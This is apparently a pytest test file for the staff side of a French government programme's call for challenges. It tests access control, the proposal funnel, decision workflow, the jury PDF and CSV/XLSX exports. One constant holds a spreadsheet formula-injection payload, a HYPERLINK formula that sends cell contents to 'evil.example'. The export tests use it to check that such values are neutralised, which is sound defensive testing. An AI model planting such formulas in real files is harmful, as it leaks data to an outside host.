"""The programme team's side of a call for challenges: the proposals and their funnel,
one proposal with its decisions and questions, its PDF for the jury, the exports."""

import csv
import datetime
import io
import re

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from eig.accounts.models import Role
from eig.applications.queries import offered_positions
from eig.calls.models import Call, Question
from eig.calls.services import attach_file, save_step
from eig.challenges.models import Challenge
from eig.notifications.models import OutboxMessage
from eig.proposals.approval import approve_selection, submit_selection
from eig.proposals.defaults import install_challenge_form
from eig.proposals.models import Proposal
from eig.proposals.queries import funnel_of_proposals
from eig.proposals.services import ask_question, decide, start_proposal, submit_proposal
from eig.web.staff.proposal_pdf import proposal_html, render_proposal_pdf
from tests.factories import AdministrationFactory, PromotionFactory, StaffFactory, UserFactory
from tests.factories.agents import confirmed_agent
from tests.factories.calls import application_call
from tests.factories.files import PDF_BYTES

pytestmark = pytest.mark.django_db

State = Proposal.State
INJECTION = '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'

# Every answer of the default proposal form. Short answers: a PDF line never splits them.
TEAM = [
    {"nom": "Martin", "fonction": "Cheffe", "statut": "Titulaire", "implication": "50", "apport": "Pilotage"},
    {"nom": "Durand", "fonction": "Architecte", "statut": "Contractuel", "implication": "20", "apport": "Hebergement"},
]
ANSWERS = {
    "projet": {
        "nom_projet": "Signaux faibles",
        "resume": "Detecter les entreprises en difficulte.",
        "porteur_operationnel": "Direction generale des entreprises",
        "porteur_administratif": "Secretariat general",
        "partenaires": "Urssaf Caisse nationale",
        "adresse": "139 rue de Bercy 75012 Paris",
    },
    "description": {
        key: f"Reponse {key} du dossier"
        for key in [
            "contexte",
            "solution",
            "benefices",
            "existant",
            "obstacles",
            "juridique",
            "avancement",
            "ouverture",
            "acteurs",
            "pourquoi",
            "besoins",
            "transformation",
        ]
    },
    "equipe": {
        "nombre_eig": "2",
        "profil_1": "datascience",
        "mission_1": "Construire le modele de detection.",
        "profil_2": "dev",
        "mission_2": "Construire le service en ligne.",
        "ressources": "Des postes de travail puissants.",
        "donnees": "Les bilans des entreprises.",
        "donnees_accessibles": "oui",
        "equipe_projet": TEAM,
    },
    "financement": {"cofinancement": "non", "cout_junior": "45000", "cout_senior": "62000"},
    "contacts": {
        f"{person}_{field}": value
        for person in ["mentor1", "mentor_haut_niveau", "rh", "gestion"]
        for field, value in [
            ("nom", f"Personne {person}"),
            ("fonction", f"Fonction {person}"),
            ("courriel", f"{person}@dge.gouv.fr"),
            ("telephone", "01 02 03 04 05"),
        ]
    },
    "pieces": {"hors_les_murs": True, "open_source": True, "donnees_fournies": True},
}
# What a person reads for the answers that are not typed text.
SHOWN = {
    "nombre_eig": "2",
    "profil_1": "Data science",
    "profil_2": "Développement",
    "donnees_accessibles": "Oui",
    "cofinancement": "Non",
    "hors_les_murs": "Oui",
    "open_source": "Oui",
    "donnees_fournies": "Oui",
    "pitch": "pitch-signaux.pdf",
    "simulation_paie": "paie-signaux.pdf",
}


@pytest.fixture(autouse=True)
def private_root(settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
    settings.FILE_SCANNER = "eig.files.scanners.NoopScanner"


@pytest.fixture
def staff():
    return StaffFactory(email="equipe@eig.example")


@pytest.fixture
def staff_client(staff):
    client = Client()
    client.force_login(staff)
    return client


def challenge_call(slug="appel-defis", prefix="DEFI", promotion=None):
    now = timezone.now()
    call = Call.objects.create(
        promotion=promotion or PromotionFactory(),
        kind=Call.Kind.CHALLENGES,
        title=f"Appel à défis {prefix}",
        slug=slug,
        opens_at=now - datetime.timedelta(days=5),
        closes_at=now + datetime.timedelta(days=5),
        dossier_prefix=prefix,
    )
    install_challenge_form(call)
    return call


def agency(name="Direction générale des entreprises", email="camille@dge.gouv.fr"):
    administration = AdministrationFactory(name=name)
    agent = UserFactory(email=email)
    confirmed_agent(agent, administration)
    return administration, agent


def propose(call, administration, agent, *, answers=ANSWERS, files=True, submit=True, **projet):
    """A proposal with the answers given (and the two files), submitted unless said."""
    proposal = start_proposal(call, by=agent, administration=administration)
    for slug, data in answers.items():
        data = {**data, **projet} if slug == "projet" else data
        assert save_step(proposal.dossier, call.steps.get(slug=slug), data, by=agent) == {}
    if files:
        for key, name in [("pitch", "pitch-signaux.pdf"), ("simulation_paie", "paie-signaux.pdf")]:
            question = Question.objects.get(step__call=call, key=key)
            attach_file(proposal.dossier, question, SimpleUploadedFile(name, PDF_BYTES), by=agent)
    if submit:
        submit_proposal(proposal, by=agent)
    proposal.refresh_from_db()
    return proposal


def quick(call, administration, agent, title, state=State.SUBMITTED):
    """A proposal with its project's name only, put in `state` directly (lists and funnels)."""
    proposal = start_proposal(call, by=agent, administration=administration)
    save_step(proposal.dossier, call.steps.get(slug="projet"), {"nom_projet": title}, by=agent)
    Proposal.objects.filter(pk=proposal.pk).update(state=state)
    proposal.refresh_from_db()
    return proposal


@pytest.fixture
def world():
    call = challenge_call()
    administration, agent = agency()
    proposal = propose(call, administration, agent)
    return {"call": call, "administration": administration, "agent": agent, "proposal": proposal}


def url(name, proposal=None, call=None, query=""):
    call = call or proposal.dossier.call
    kwargs = {"slug": call.slug}
    if proposal is not None and name not in {
        "staff:proposal_list",
        "staff:proposal_export_csv",
        "staff:proposal_export_xlsx",
    }:
        kwargs["number"] = proposal.dossier.number
    return reverse(name, kwargs=kwargs) + query


def decide_by_post(client, proposal, decision, *, confirm=True, comment=""):
    data = {"decision": decision, "comment": comment}
    if confirm:
        data["confirm"] = "1"
    return client.post(url("staff:proposal_decide", proposal), data)


GET_NAMES = [
    "staff:proposal_list",
    "staff:proposal_detail",
    "staff:proposal_pdf",
    "staff:proposal_export_csv",
    "staff:proposal_export_xlsx",
]
POST_NAMES = ["staff:proposal_decide", "staff:proposal_ask"]


# --- Who sees the pages -------------------------------------------------------------


@pytest.mark.parametrize("who", ["anonymous", "agent_of_the_administration", "staff_role_without_is_staff"])
def test_every_proposal_page_and_action_answers_404_outside_the_programme_team(world, who):
    proposal = world["proposal"]
    user = {
        "anonymous": None,
        "agent_of_the_administration": world["agent"],
        "staff_role_without_is_staff": UserFactory(roles=["staff"]),
    }[who]
    client = Client()
    if user is not None:
        client.force_login(user)
    assert [client.get(url(name, proposal)).status_code for name in GET_NAMES] == [404] * 5
    decided = client.post(url("staff:proposal_decide", proposal), {"decision": "preselected", "confirm": "1"})
    asked = client.post(url("staff:proposal_ask", proposal), {"text": "Une question ?"})
    assert (decided.status_code, asked.status_code) == (404, 404)
    proposal.refresh_from_db()
    assert proposal.state == State.SUBMITTED and not proposal.questions.exists()


def test_pages_refuse_writes_and_actions_refuse_reads_with_405(staff_client, world):
    proposal = world["proposal"]
    writes = {
        getattr(staff_client, method)(url(name, proposal)).status_code
        for name in GET_NAMES
        for method in ["post", "put", "patch", "delete"]
    }
    reads = {
        getattr(staff_client, method)(url(name, proposal)).status_code
        for name in POST_NAMES
        for method in ["get", "head", "put", "delete"]
    }
    assert writes == {405} and reads == {405}


def test_a_call_for_applications_or_a_proposal_of_another_call_answers_404(staff_client, world):
    applications = application_call(slug="appel-candidatures")
    other = challenge_call(slug="autre-appel", prefix="AUTRE")
    assert staff_client.get(url("staff:proposal_list", call=applications)).status_code == 404
    elsewhere = reverse(
        "staff:proposal_detail", kwargs={"slug": other.slug, "number": world["proposal"].dossier.number}
    )
    assert staff_client.get(elsewhere).status_code == 404


# --- The list and the funnel ----------------------------------------------------------------


@pytest.fixture
def crowd():
    call = challenge_call()
    dge, camille = agency()
    dinum, alex = agency(name="Direction interministérielle du numérique", email="alex@numerique.gouv.fr")
    return {
        "call": call,
        "dge": dge,
        "dinum": dinum,
        "draft": quick(call, dge, camille, "Brouillon des douanes", State.DRAFT),
        "submitted": quick(call, dge, camille, "Signaux faibles"),
        "not_preselected": quick(call, dinum, alex, "Carte des écoles", State.NOT_PRESELECTED),
        "auditioned": quick(call, dinum, alex, "Lab santé", State.AUDITIONED),
        "selected": quick(call, dge, camille, "Open Fisca", State.SELECTED),
        "published": quick(call, dinum, alex, "Brigade numérique", State.PUBLISHED),
    }


def numbers(response):
    return sorted(p.dossier.number for p in response.context["page_obj"])


@pytest.mark.parametrize(
    "query, expected",
    [
        ("", ["draft", "submitted", "not_preselected", "auditioned", "selected", "published"]),
        ("?state=submitted", ["submitted"]),
        ("?state=published", ["published"]),
        ("?administration={dinum}", ["not_preselected", "auditioned", "published"]),
        ("?administration={dge}&state=selected", ["selected"]),
        ("?q=signaux", ["submitted"]),  # the project's name
        ("?q=%C3%A9coles", ["not_preselected"]),  # accented
        ("?q=CARTE", ["not_preselected"]),  # any case
        ("?q=interminist%C3%A9rielle+lab", ["auditioned"]),  # every word: administration and name
        ("?q=introuvable", []),
    ],
)
def test_filters_and_search_select_the_proposals(staff_client, crowd, query, expected):
    query = query.format(dinum=crowd["dinum"].pk, dge=crowd["dge"].pk)
    response = staff_client.get(url("staff:proposal_list", call=crowd["call"], query=query))
    assert response.status_code == 200
    assert numbers(response) == sorted(crowd[name].dossier.number for name in expected)


def test_search_finds_a_proposal_by_its_number(staff_client, crowd):
    number = crowd["auditioned"].dossier.number
    response = staff_client.get(url("staff:proposal_list", call=crowd["call"], query=f"?q={number}"))
    assert numbers(response) == [number]


def test_an_invalid_filter_shows_its_error_and_no_proposal(staff_client, crowd):
    response = staff_client.get(url("staff:proposal_list", call=crowd["call"], query="?state=lost"))
    assert response.status_code == 200
    assert response.context["form"].errors["state"]
    assert numbers(response) == []


def test_the_funnel_counts_the_proposals_that_reached_each_stage(crowd, staff):
    call = crowd["call"]
    dinum_agent = UserFactory(email="sam@numerique.gouv.fr")
    confirmed_agent(dinum_agent, crowd["dinum"])
    # Not selected after the audition counts as auditioned; not selected straight after the pre-selection does not.
    after_audition = quick(call, crowd["dinum"], dinum_agent, "Après audition", State.PRESELECTED)
    decide(after_audition, State.AUDITIONED, by=staff)
    decide(after_audition, State.NOT_SELECTED, by=staff)
    without_audition = quick(call, crowd["dinum"], dinum_agent, "Sans audition", State.PRESELECTED)
    decide(without_audition, State.NOT_SELECTED, by=staff)
    assert funnel_of_proposals(call) == {
        "drafts": 1,
        "proposed": 7,
        "preselected": 5,
        "auditioned": 4,
        "selected": 2,
        "validated": 1,
        "published": 1,
    }


def test_the_list_shows_the_funnel_as_a_table_and_bars_without_inline_style(staff_client, crowd):
    response = staff_client.get(url("staff:proposal_list", call=crowd["call"]))
    html = response.content.decode()
    assert [(bar.label, bar.count, bar.percent) for bar in response.context["bars"]] == [
        ("Propositions déposées", 5, 100),
        ("Présélectionnées", 3, 60),
        ("Auditionnées", 3, 60),
        ("Retenues par le jury", 2, 40),
        ("Validées", 1, 20),
        ("Publiées", 1, 20),
    ]
    assert 'width="60%"' in html and "<svg" in html
    assert "Open Fisca" in html and "Direction interministérielle du numérique" in html
    assert url("staff:proposal_export_csv", call=crowd["call"]) in html
    assert "style=" not in html and "<script>" not in html


def test_the_call_list_links_a_call_for_challenges_to_its_proposals(staff_client, crowd):
    applications = application_call(slug="appel-candidatures")
    html = staff_client.get(reverse("staff:call_list")).content.decode()
    assert url("staff:proposal_list", call=crowd["call"]) in html
    assert reverse("staff:dossier_list", kwargs={"slug": crowd["call"].slug}) not in html
    assert reverse("staff:dossier_list", kwargs={"slug": applications.slug}) in html


def queries_for(client, address):
    with CaptureQueriesContext(connection) as context:
        assert client.get(address).status_code == 200
    return len(context.captured_queries)


def grow(call, count, agencies):
    states = [State.SUBMITTED, State.PRESELECTED, State.NOT_SELECTED, State.PUBLISHED, State.DRAFT]
    for index in range(count):
        administration, agent = agencies[index % len(agencies)]
        quick(call, administration, agent, f"Projet {index}", states[index % len(states)])


@pytest.mark.parametrize(
    "name, query",
    [
        ("staff:proposal_list", ""),
        ("staff:proposal_list", "?state=submitted&q=projet"),
        ("staff:proposal_export_csv", ""),
        ("staff:proposal_export_xlsx", "?q=projet"),
    ],
)
def test_the_list_and_the_exports_keep_a_flat_query_count_from_1_to_50_proposals(staff_client, name, query):
    call = challenge_call()
    agencies = [agency(), agency(name="Direction interministérielle du numérique", email="alex@numerique.gouv.fr")]
    grow(call, 1, agencies)
    address = url(name, call=call, query=query)
    # Each count follows a first read, which takes what the process keeps: the call's steps and questions
    # (eig.calls.structure) and, for the list, the site's DSFR settings under the public content version
    # (which the new agencies move).
    staff_client.get(address)
    with_one = queries_for(staff_client, address)
    grow(call, 49, agencies)
    staff_client.get(address)
    assert queries_for(staff_client, address) == with_one


# --- One proposal -------------------------------------------------------------------------


def test_the_proposal_page_shows_every_answer_in_step_order_the_team_as_a_table_and_the_files(staff_client, world):
    proposal = world["proposal"]
    response = staff_client.get(url("staff:proposal_detail", proposal))
    html = response.content.decode()
    assert response.status_code == 200
    steps = response.context["steps"]
    assert [block["step"].slug for block in steps] == [
        "projet",
        "description",
        "equipe",
        "financement",
        "contacts",
        "pieces",
    ]
    assert [a.question.key for a in steps[0]["answers"]][:2] == ["nom_projet", "resume"]
    shown = {a.question.key: a for block in steps for a in block["answers"]}
    assert shown["profil_1"].text == "Data science" and shown["donnees_accessibles"].text == "Oui"
    assert shown["equipe_projet"].table.columns[0] == "Nom"
    assert shown["equipe_projet"].table.rows == [list(row.values()) for row in TEAM]
    assert "<td>Hebergement</td>" in html
    assert "pitch-signaux.pdf" in html and "paie-signaux.pdf" in html
    assert "Signaux faibles" in html and "Direction générale des entreprises" in html
    assert response.context["versions"][0].number == 1
    assert [e.verb for e in response.context["activity"]][-1] == "proposal.submitted"
    assert "Proposition déposée" in html
    assert response.context["missing"] == []
    assert url("staff:proposal_pdf", proposal) in html
    assert "style=" not in html and "<script>" not in html


def test_the_page_offers_one_confirmed_form_per_allowed_decision(staff_client, world, staff):
    proposal = world["proposal"]

    def decisions():
        return [d["value"] for d in staff_client.get(url("staff:proposal_detail", proposal)).context["decisions"]]

    assert decisions() == ["preselected", "not_preselected"]
    decide(proposal, State.PRESELECTED, by=staff)
    assert decisions() == ["auditioned", "not_selected"]
    decide(proposal, State.AUDITIONED, by=staff)
    assert decisions() == ["selected", "not_selected"]
    decide(proposal, State.SELECTED, by=staff)
    assert decisions() == ["validated"]
    html = staff_client.get(url("staff:proposal_detail", proposal)).content.decode()
    assert 'name="confirm"' in html and "Valider" in html and "csrfmiddlewaretoken" in html


def test_the_decision_flow_from_submitted_to_a_published_challenge_offered_to_candidates(staff_client, world):
    proposal = world["proposal"]
    detail = url("staff:proposal_detail", proposal)
    for decision in ["preselected", "auditioned", "selected"]:
        response = decide_by_post(staff_client, proposal, decision, comment=f"Étape {decision}")
        assert (response.status_code, response["Location"]) == (302, detail)
        proposal.refresh_from_db()
        assert proposal.state == decision
    assert (
        "Décision enregistrée : la proposition est « Retenue par le jury »."
        in staff_client.get(detail).content.decode()
    )

    assert decide_by_post(staff_client, proposal, "validated").status_code == 302
    proposal.refresh_from_db()
    challenge = proposal.challenge
    assert proposal.state == State.VALIDATED
    assert challenge.status == Challenge.Status.PROPOSED and challenge.title == "Signaux faibles"
    assert [(p.order, p.profile.code) for p in challenge.positions.order_by("order")] == [
        (1, "datascience"),
        (2, "dev"),
    ]
    html = staff_client.get(detail).content.decode()
    assert reverse("admin:challenges_challenge_change", args=[challenge.pk]) in html
    assert Client().get(challenge.get_absolute_url()).status_code == 404  # still a draft

    applications = application_call(slug="appel-candidatures", promotion=proposal.dossier.call.promotion, positions=0)
    assert list(offered_positions(applications)) == []
    # Published once the approvers approve the call's selected challenges (eig/proposals/approval.py).
    refused = decide_by_post(staff_client, proposal, "published")
    assert refused.status_code == 409 and "être approuvés par les valideurs" in refused.text
    approver = UserFactory(roles=[Role.APPROVER.value])
    staff = StaffFactory()
    approve_selection(submit_selection(proposal.dossier.call, by=staff), approver=approver)
    assert decide_by_post(staff_client, proposal, "published").status_code == 302
    proposal.refresh_from_db()
    challenge.refresh_from_db()
    assert proposal.state == State.PUBLISHED and challenge.status == Challenge.Status.RECRUITING
    assert sorted(p.pk for p in offered_positions(applications)) == sorted(p.pk for p in challenge.positions.all())
    assert Client().get(challenge.get_absolute_url()).status_code == 200
    comments = OutboxMessage.objects.filter(template="proposal_decision", recipient="camille@dge.gouv.fr")
    assert comments.count() == 5 and "Étape auditioned" in comments.get(key__contains=":auditioned:").body_text


def test_an_invalid_transition_is_refused_with_a_french_message(staff_client, world):
    proposal = world["proposal"]
    response = decide_by_post(staff_client, proposal, "selected")
    assert response.status_code == 409
    assert response.context["decision_errors"] == [
        "La proposition est « Déposée » : elle ne peut pas passer à « Retenue par le jury »."
    ]
    assert "elle ne peut pas passer à" in response.content.decode()
    assert decide_by_post(staff_client, proposal, "published").status_code == 409
    proposal.refresh_from_db()
    assert proposal.state == State.SUBMITTED


def test_a_decision_without_its_confirmation_is_not_taken(staff_client, world):
    proposal = world["proposal"]
    response = decide_by_post(staff_client, proposal, "not_preselected", confirm=False, comment="Trop tôt")
    assert response.status_code == 400
    refused = {d["value"]: d for d in response.context["decisions"]}["not_preselected"]
    assert refused["errors"] == ["Cochez la case pour confirmer la décision."] and refused["comment"] == "Trop tôt"
    assert "Cochez la case pour confirmer la décision." in response.content.decode()
    proposal.refresh_from_db()
    assert proposal.state == State.SUBMITTED
    assert decide_by_post(staff_client, proposal, "lost").status_code == 400


def test_a_question_reaches_the_administrations_agents(staff_client, world, staff):
    proposal = world["proposal"]
    colleague = UserFactory(email="dominique@dge.gouv.fr")
    confirmed_agent(colleague, world["administration"])
    response = staff_client.post(url("staff:proposal_ask", proposal), {"text": "Quel budget pour l'hébergement ?"})
    assert (response.status_code, response["Location"]) == (302, url("staff:proposal_detail", proposal))
    question = proposal.questions.get()
    assert (question.text, question.asked_by) == ("Quel budget pour l'hébergement ?", staff)
    sent = OutboxMessage.objects.filter(template="proposal_question")
    assert sorted(sent.values_list("recipient", flat=True)) == ["camille@dge.gouv.fr", "dominique@dge.gouv.fr"]
    assert "Quel budget pour l'hébergement ?" in sent.first().body_text
    html = staff_client.get(url("staff:proposal_detail", proposal)).content.decode()
    assert "Quel budget pour l&#x27;hébergement ?" in html and "En attente de réponse." in html


def test_an_empty_question_is_refused_in_french(staff_client, world):
    response = staff_client.post(url("staff:proposal_ask", world["proposal"]), {"text": "  "})
    assert response.status_code == 400
    assert "Écrivez la question à poser." in response.content.decode()
    assert not OutboxMessage.objects.filter(template="proposal_question").exists()


# --- The PDF for the jury -------------------------------------------------------------------


def expected_texts():
    """Every answer as the PDF shows it: typed texts, choice labels, yes/no words, file names, team cells."""
    texts = {
        key: SHOWN.get(key, value) for data in ANSWERS.values() for key, value in data.items() if key != "equipe_projet"
    }
    texts.update(SHOWN)
    cells = [cell for row in TEAM for cell in row.values()]
    return list(texts.values()) + cells


@pytest.fixture
def questioned(world, staff):
    question = ask_question(world["proposal"], "Combien d'agents ?", by=staff)
    question.answer, question.answered_at = "Quatre agents.", timezone.now()
    question.save()
    return world["proposal"]


def test_the_pdf_html_holds_every_answer_and_the_questions(questioned):
    html = proposal_html(questioned)
    missing = [text for text in expected_texts() if escape(str(text)) not in html]
    assert missing == []
    assert "<th>Implication (% du temps de travail)</th>" in html
    assert "Combien d&#x27;agents ?" in html and "Quatre agents." in html
    assert questioned.dossier.versions.get().digest in html
    assert "Version déposée" in html and "Brouillon" not in html


def test_the_pdf_prints_the_submitted_version_not_a_later_draft_edit(world):
    proposal = world["proposal"]
    save_step(
        proposal.dossier,
        proposal.dossier.call.steps.get(slug="projet"),
        {"resume": "Modifie depuis"},
        by=world["agent"],
    )
    html = proposal_html(proposal)
    assert "Detecter les entreprises en difficulte." in html and "Modifie depuis" not in html


def test_the_pdf_is_a_pdf_with_every_answer_readable(staff_client, questioned):
    response = staff_client.get(url("staff:proposal_pdf", questioned))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'attachment; filename="{questioned.dossier.number}.pdf"'
    assert response.content.startswith(b"%PDF")
    # Read back with pypdf (pinned in requirements-dev.txt): the test runs on every machine.
    from pypdf import PdfReader

    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    words = " ".join(text.split())
    assert [t for t in expected_texts() if " ".join(str(t).split()) not in words] == []
    assert "Combien d'agents ?" in words and "Quatre agents." in words


def test_the_pdf_of_a_draft_says_so_and_fetches_nothing_external(world):
    call = world["call"]
    draft = propose(call, world["administration"], world["agent"], files=False, submit=False, nom_projet="Brouillon")
    html = proposal_html(draft)
    assert "Brouillon : ces réponses n'ont pas encore été déposées." in html
    assert not re.search(r"(src|href)=", html)
    assert render_proposal_pdf(draft).startswith(b"%PDF")


# --- Exports --------------------------------------------------------------------------------


def test_the_csv_export_has_one_row_per_proposal_with_state_administration_and_every_answer(staff_client, world):
    call = world["call"]
    evil = propose(call, world["administration"], world["agent"], files=False, submit=False, nom_projet=INJECTION)
    response = staff_client.get(url("staff:proposal_export_csv", call=call))
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="appel-defis-propositions.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header = rows[0]
    assert header[:5] == ["Numéro", "État", "Administration", "Déposée le", "Nom du projet"]
    assert len(header) == 4 + Question.objects.filter(step__call=call).count()
    by_number = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    row = by_number[world["proposal"].dossier.number]
    assert row["État"] == "Déposée" and row["Administration"] == "Direction générale des entreprises"
    assert row["Profil n° 1"] == "Data science" and row["Demandez-vous un co-financement ?"] == "Non"
    assert row["Présentation du projet (PDF)"].startswith(
        "pitch-signaux.pdf (77\xa0octets) — http://testserver/fichiers/"
    )
    team = row["L'équipe projet et ses apports (directions métiers et SI impliquées)"]
    assert (
        team.splitlines()[0]
        == "Nom : Martin ; Fonction : Cheffe ; Statut : Titulaire ; Implication (% du temps de travail) : 50 ; Apport : Pilotage"
    )
    assert by_number[evil.dossier.number]["Nom du projet"] == "'" + INJECTION
    assert by_number[evil.dossier.number]["État"] == "Brouillon"


def test_the_xlsx_export_keeps_the_filters_and_stores_formulas_as_strings(staff_client, world):
    call = world["call"]
    evil = propose(call, world["administration"], world["agent"], files=False, submit=False, nom_projet=INJECTION)
    response = staff_client.get(url("staff:proposal_export_xlsx", call=call, query="?state=draft"))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert sheet.max_row == 2 and cells["Numéro"].value == evil.dossier.number
    assert cells["Nom du projet"].value == "'" + INJECTION and cells["Nom du projet"].data_type == "s"
    assert staff_client.get(url("staff:proposal_export_csv", call=call, query="?state=lost")).status_code == 400
